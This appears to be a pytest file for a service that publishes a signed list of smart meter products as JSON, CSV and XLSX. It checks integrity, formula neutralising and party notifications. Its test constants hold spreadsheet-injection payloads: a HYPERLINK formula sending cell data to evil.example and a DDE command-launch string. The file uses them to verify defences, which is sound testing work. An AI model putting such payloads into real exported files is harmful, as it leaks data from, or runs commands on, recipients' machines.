"""The published CPL: the latest issued extract (not the live store), its formats, neutralising, `cpl publish`."""

from __future__ import annotations

import csv
import datetime as dt
import email.parser
import email.policy
import io
import json
import os
import sqlite3
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
from sqlmodel import Session

from cpl import publication
from cpl.config import Settings as CplSettings
from cpl.core.domain import PartyRole
from cpl.services import extracts as extract_service
from cpl.services import parties as party_service
from cpl.store import Entry, IssuedExtract, Submission, get_engine
from formats.receipt import build_receipt
from formats.vocabulary import EntryStatus
from signing.cms import sign_data
from signing.signers import PemKeySigner
from tests.cpl.conftest import CplRun

ROOT = Path(__file__).resolve().parents[2]
KEYS = ROOT / "keys-dev"
NOW = dt.datetime(2026, 11, 23, 9, 0, tzinfo=dt.UTC)

HOSTILE_MANUFACTURER = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
HOSTILE_MODEL = "+cmd|' /C calc'!A0"

# --- a stored CPL with issued extracts (shared with test_notices) ---------------------------------

PARTIES = (
    ("acme-meters", PartyRole.MANUFACTURER, "cpl@acme.example"),
    ("bright-energy", PartyRole.SUPPLIER, "metering@bright.example"),
    ("dcc", PartyRole.DCC, "cpl@dcc.example"),
    ("northwind", PartyRole.MANUFACTURER, None),
    ("secas", PartyRole.SECAS, "cpl@secas.example"),
)


def populate(session: Session) -> None:
    for party, role, mail in PARTIES:
        party_service.add_party(session, party, party, role, NOW, mail)
        session.flush()
        party_service.add_user(session, party, party, party, NOW)
    party_service.add_user(session, "alice", "secas", "Alice", NOW)
    party_service.add_user(session, "bob", "secas", "Bob", NOW)
    session.add(
        Submission(
            id=1,
            party_id="acme-meters",
            submitted_by="acme-meters",
            submitted_at=NOW,
            filename="acme.xlsx",
            workbook=b"x",
            workbook_sha256="0" * 64,
            checked_as_of=NOW.date(),
            findings_json="[]",
            state="approved",
        )
    )
    session.flush()


def add_entry(session: Session, model_id: str, *, manufacturer: str = "Acme Meters", model: str = "G4") -> Entry:
    entry = Entry(
        physical_device_type="Gas Smart Meter",
        manufacturer=manufacturer,
        manufacturer_id="106C",
        model=model,
        model_id=model_id,
        hardware_version="00AC",
        firmware_version="9001",
        release_notes="RN",
        technical_specification="SMETS2 v4.2",
        gbcs_version="v4.2",
        zigbee_certificate=f"ZB-{model_id}",
        cpa_certificate=f"CPA-{model_id}",
        cpa_expiry=dt.date(2031, 1, 31),
        submission_type="New",
        status=EntryStatus.ACTIVE,
        status_since=NOW.date(),
        submission_id=1,
        submitting_party_id="acme-meters",
    )
    session.add(entry)
    session.flush()
    return entry


def issue(session: Session, now: dt.datetime = NOW) -> IssuedExtract:
    signer = PemKeySigner.from_files(
        KEYS / "secas-signer-1.pem", KEYS / "secas-signer-1.key.pem", chain=[KEYS / "issuing-ca.pem"]
    )
    draft, _ = extract_service.prepare(session, "alice", now)
    assert draft.id is not None
    return extract_service.approve(session, draft.id, "bob", now, signer, CplSettings().extract_trust())


def dcc_receipt(issued: IssuedExtract, applied: dt.datetime = NOW + dt.timedelta(hours=2)) -> bytes:
    dcc = PemKeySigner.from_files(
        KEYS / "dcc-receipt-signer.pem", KEYS / "dcc-receipt-signer.key.pem", chain=[KEYS / "issuing-ca.pem"]
    )
    content = build_receipt(
        sequence=issued.sequence,
        extract_sha256=issued.content_sha256,
        received_at=applied - dt.timedelta(minutes=5),
        applied_at=applied,
        devices_suspended=12,
        devices_restored=3,
    )
    return sign_data(content, dcc, signing_time=applied)


@pytest.fixture
def session(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Session]:
    """A session the test never commits: notices are queued, never delivered."""
    monkeypatch.setenv("CPL_OUTBOX_DIR", str(tmp_path / "outbox"))
    with Session(get_engine(f"sqlite:///{tmp_path / 'cpl.db'}"), expire_on_commit=False) as s:
        populate(s)
        yield s


# --- what is published ----------------------------------------------------------------------------


def test_nothing_is_published_before_an_extract_is_issued(session: Session) -> None:
    add_entry(session, "4331")
    assert publication.published_cpl(session) is None


def test_published_cpl_is_the_latest_issued_extract_not_the_live_store(session: Session) -> None:
    add_entry(session, "4331")
    issue(session)
    add_entry(session, "4332")
    issue(session, NOW + dt.timedelta(hours=1))
    add_entry(session, "4333")  # approved but not yet issued: not published
    published = publication.published_cpl(session)
    assert published is not None
    assert published.sequence == 2 and published.issued_at == NOW + dt.timedelta(hours=1)
    assert [e.entry_id for e in published.entries] == ["CPL-000001", "CPL-000002"]


def test_published_cpl_says_whether_the_dcc_has_loaded_it(session: Session) -> None:
    add_entry(session, "4331")
    issued = issue(session)
    before = publication.published_cpl(session)
    assert before is not None and before.dcc_loaded_at is None and not before.dcc_loaded
    extract_service.import_receipt(
        session, dcc_receipt(issued), NOW + dt.timedelta(hours=3), CplSettings().receipt_trust()
    )
    after = publication.published_cpl(session)
    assert after is not None and after.dcc_loaded_at == NOW + dt.timedelta(hours=2)


def test_tampered_stored_content_is_not_published(session: Session, tmp_path: Path) -> None:
    add_entry(session, "4331")
    issue(session)
    session.commit()
    with sqlite3.connect(tmp_path / "cpl.db") as db:
        db.execute("UPDATE extractdraft SET content = CAST(replace(CAST(content AS TEXT), 'Acme', 'Evil') AS BLOB)")
    session.expire_all()
    with pytest.raises(publication.PublicationIntegrityError, match="does not match its signed hash"):
        publication.published_cpl(session)


def test_json_carries_the_version_and_the_signed_entries_verbatim(session: Session) -> None:
    add_entry(session, "4331", manufacturer=HOSTILE_MANUFACTURER)
    issue(session)
    published = publication.published_cpl(session)
    assert published is not None
    document = json.loads(publication.to_json(published))
    assert document["format"] == "cpl-published" and document["sequence"] == 1
    assert document["issued_at"] == "2026-11-23T09:00:00Z" and document["dcc_loaded"] is False
    assert document["entries"] == [e.to_json() for e in published.entries]
    assert document["entries"][0]["manufacturer"] == HOSTILE_MANUFACTURER  # JSON is data, not a spreadsheet


# --- formula neutralising -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", HOSTILE_MANUFACTURER, HOSTILE_MODEL]
)
def test_text_a_spreadsheet_would_evaluate_is_neutralised(text: str) -> None:
    assert publication.neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["Acme Meters", "106C", "2030-01-31", "", "G4 = gas", "'quoted"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert publication.neutralise(text) == text


def hostile_cpl(session: Session) -> publication.PublishedCpl:
    add_entry(session, "4331", manufacturer=HOSTILE_MANUFACTURER, model=HOSTILE_MODEL)
    add_entry(session, "4332", manufacturer="@Acme", model="-G4")
    issue(session)
    published = publication.published_cpl(session)
    assert published is not None
    return published


def test_csv_neutralises_hostile_manufacturer_and_model_names(session: Session) -> None:
    rows = list(csv.reader(io.StringIO(publication.to_csv(hostile_cpl(session)).decode("utf-8"), newline="")))
    header, first, second = rows
    assert header[:6] == ["Entry ID", "Physical Device Type", "Manufacturer", "Manufacturer ID", "Model", "Model ID"]
    assert first[2] == "'" + HOSTILE_MANUFACTURER and first[4] == "'" + HOSTILE_MODEL
    assert second[2] == "'@Acme" and second[4] == "'-G4"
    assert first[0] == "CPL-000001" and first[3] == "106C" and first[header.index("Status")] == "Active"
    for row in rows:
        assert not any(cell.startswith(publication.FORMULA_TRIGGERS) for cell in row)


def test_xlsx_neutralises_hostile_names_and_holds_no_formula(session: Session) -> None:
    data = publication.to_xlsx(hostile_cpl(session))
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book["CPL"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[1][2] == "'" + HOSTILE_MANUFACTURER and rows[1][4] == "'" + HOSTILE_MODEL
    assert rows[2][2] == "'@Acme" and rows[2][4] == "'-G4"
    for worksheet in book.worksheets:
        for row in worksheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{worksheet.title}!{cell.coordinate} is a formula"
    assert sheet.freeze_panes == "A2"
    about = dict(book["About"].iter_rows(values_only=True))
    assert about["CPL version (extract sequence)"] == "1" and about["Loaded by the DCC"].startswith("not yet")


# --- `cpl publish` --------------------------------------------------------------------------------


def test_publish_refuses_when_nothing_has_been_issued(cpl: CplRun) -> None:
    result = cpl("publish", "--out-dir", cpl.tmp / "public", expect=1)
    assert "Nothing has been issued yet" in result.stderr and result.stderr.strip().count("\n") == 0
    assert not (cpl.tmp / "public").exists()


def test_publish_writes_five_files_and_tells_each_party_once_per_version(cpl: CplRun) -> None:
    with Session(get_engine(cpl.env["CPL_DATABASE_URL"]), expire_on_commit=False) as s:
        populate(s)
        add_entry(s, "4331", manufacturer=HOSTILE_MANUFACTURER)
        issue(s)
        s.commit()
    public = cpl.tmp / "public"
    summary = cpl.json("publish", "--out-dir", public)
    assert summary["sequence"] == 1 and summary["entries"] == 1 and summary["notices_queued"] == 4
    assert summary["sent"] == {"cpl-published": 4} and summary["failures"] == []
    files = ["central_products_list.csv", "central_products_list.xlsx", "cpl.csv", "cpl.json", "cpl.xlsx"]
    assert sorted(p.name for p in public.iterdir()) == files
    umask = os.umask(0)
    os.umask(umask)
    assert {(public / name).stat().st_mode & 0o777 for name in files} == {0o666 & ~umask}
    # The SEC layout: with no imported history, this service's first version is 1.0.
    sec_csv = (public / "central_products_list.csv").read_text("utf-8").splitlines()
    assert sec_csv[1].startswith("Version 1.0 Issued on ") and ",000001,Current," in sec_csv[1]
    assert json.loads((public / "cpl.json").read_bytes())["entries"][0]["entry_id"] == "CPL-000001"
    (_, row) = csv.reader(io.StringIO((public / "cpl.csv").read_bytes().decode("utf-8"), newline=""))
    assert row[2] == "'" + HOSTILE_MANUFACTURER
    openpyxl.load_workbook(public / "cpl.xlsx")

    outbox = Path(cpl.env["CPL_OUTBOX_DIR"])
    mails = [
        email.parser.BytesParser(policy=email.policy.default).parsebytes(p.read_bytes())
        for p in sorted(outbox.glob("*.eml"))
    ]
    assert sorted(m["To"] for m in mails) == sorted(mail for _, _, mail in PARTIES if mail)
    body = " ".join(mails[0].get_body().get_content().split())  # type: ignore[union-attr]
    assert mails[0]["Subject"] == "CPL version 1.0 published"
    assert "Version 1.0 (extract 1) of the Central Products List" in body
    assert "1 entry: 1 Active" in body and "added: CPL-000001" in body and "has not yet confirmed" in body

    again = cpl("publish", "--out-dir", public).stdout
    assert "already told of version 1.0 (extract 1)" in again and len(list(outbox.glob("*.eml"))) == 4
